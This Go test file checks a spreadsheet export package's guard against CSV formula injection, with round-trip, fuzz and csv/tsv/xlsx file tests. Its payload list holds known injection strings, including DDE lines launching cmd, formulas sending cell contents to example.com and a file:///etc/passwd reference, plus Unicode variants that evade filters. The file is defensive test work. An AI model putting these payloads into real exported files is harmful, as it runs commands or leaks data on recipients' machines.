package sheet_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/kvnmail/kvnmail/backend/sheet"
)

// payloads are texts that run something in Excel, LibreOffice or Google Sheets
// when a csv file holds them as they are: those of OWASP's page, of the
// PayloadsAllTheThings collection and variations that get round simple rules.
var payloads = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://example.com?leak="&A1,"Click")`, `=1+1`, `=A1`, `==1`, `= 1`, `=-1`, `=+1`,
	`+SUM(1+1)`, `-SUM(A1:A9)`, `@SUM(1+1)`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `+2+5+cmd|' /C calc'!A0`,
	`-cmd|' /C notepad'!'A1'`, `+'cmd'|'/C calc'!A0`, `-cmd | '/C calc' ! A0`, `=IMPORTXML(CONCAT("http://example.com/",A1),"//a")`,
	`+IMPORTDATA ("http://example.com")`, `-WEBSERVICE("http://example.com")`, `@HYPERLINK ("http://example.com","x")`,
	`+[http://example.com/book.xlsx]Sheet1!A1`, `-'\\example.com\share\[book.xlsx]Sheet1'!A1`, `+'file:///etc/passwd'#$passwd.A1`, `-Sheet2!$A$1`,
	"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "\uFEFF=1+1", "\u200B=1+1", "\t\t +SUM(1)",
	"\uFF1D1+1", "\uFF0BSUM(1)", "\uFF0Dcmd|'/C calc'!A0", "\uFF20SUM(1)", "\u2212SUM(1)", "+SUM\uFF081)", `+_xlfn.WEBSERVICE("http://x")`, `-LOG10(5)`,
	`=DDE("cmd";"/C calc";"!A0")`, `'=1+1`, `''=1+1`, `'+SUM(1)`,
}

// harmless are texts that begin like formulas and stay as they are.
var harmless = []string{
	"", "-5", "-5.25", "+1", "+44 20 7946 0000", "+91 98765 43210", "+1-800-555-0100", "+1 (555) 123-4567", "+44(0)20 7946 0000", "+91.22.1234.5678 ext. 4",
	"@handle", "@handle_2", "@asha.k", "@asha | @ravi", "@team! great", "@me!", "-", "=", "+", "@", "--", " = ", "- none", "-- none --", "- none (yet)", "-none-", "+1!",
	"-10%", "-10% (summer)", "+5:30", "-05:30", "- 12/05/2026", "-₹500", "+ok", "-A1", "@abc1", "- a=b", "-1e5", "- #1", "-3 °C (night)",
	"नमस्ते", "hello =1+1", "a;=1+1", "12=34", "'quoted'", "'-5", "'tis", "5' 10\"", "(=1)", "#=1", "\u2212 5", "😀", "-😀",
}

func TestOnlyTextsThatRunSomethingAreProtected(t *testing.T) {
	for _, text := range payloads {
		if got := sheet.Protect(text); got != "'"+text {
			t.Errorf("%q is written as %q", text, got)
		}
	}
	for _, text := range harmless {
		if got := sheet.Protect(text); got != text {
			t.Errorf("%q is damaged: %q", text, got)
		}
	}
}

func TestProtectingLosesNothing(t *testing.T) {
	for _, text := range append(payloads, harmless...) {
		if got := sheet.Unprotect(sheet.Protect(text)); got != text {
			t.Errorf("%q comes back as %q", text, got)
		}
	}
}

func FuzzProtectAndUnprotectAreExact(f *testing.F) {
	for _, text := range append(payloads, harmless...) {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got := sheet.Unprotect(sheet.Protect(text)); got != text {
			t.Errorf("%q comes back as %q", text, got)
		}
		if twice := sheet.Protect(sheet.Protect(text)); sheet.Unprotect(sheet.Unprotect(twice)) != text {
			t.Errorf("%q protected twice is %q", text, twice)
		}
	})
}

func TestFormulasComeBackFromTextFilesAsTheyWere(t *testing.T) {
	for _, ending := range []string{".csv", ".tsv", ".xlsx"} {
		path := filepath.Join(t.TempDir(), "texts"+ending)
		out, err := sheet.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := out.Begin("Texts", "Name", "Text"); err != nil {
			t.Fatal(err)
		}
		texts := append(payloads, harmless...)
		for _, text := range texts {
			if err := out.WriteText("x", text); err != nil {
				t.Fatal(err)
			}
		}
		if err := out.Close(); err != nil {
			t.Fatal(err)
		}
		rows := read(t, path, "", sheet.Options{})
		for i, text := range texts {
			if got := rows.at(i+2, 1).Text; got != text && (ending != ".xlsx" || got != strings.ReplaceAll(text, "\r", "\n")) {
				t.Errorf("%s: %q came back as %q", ending, text, got)
			}
		}
	}
}
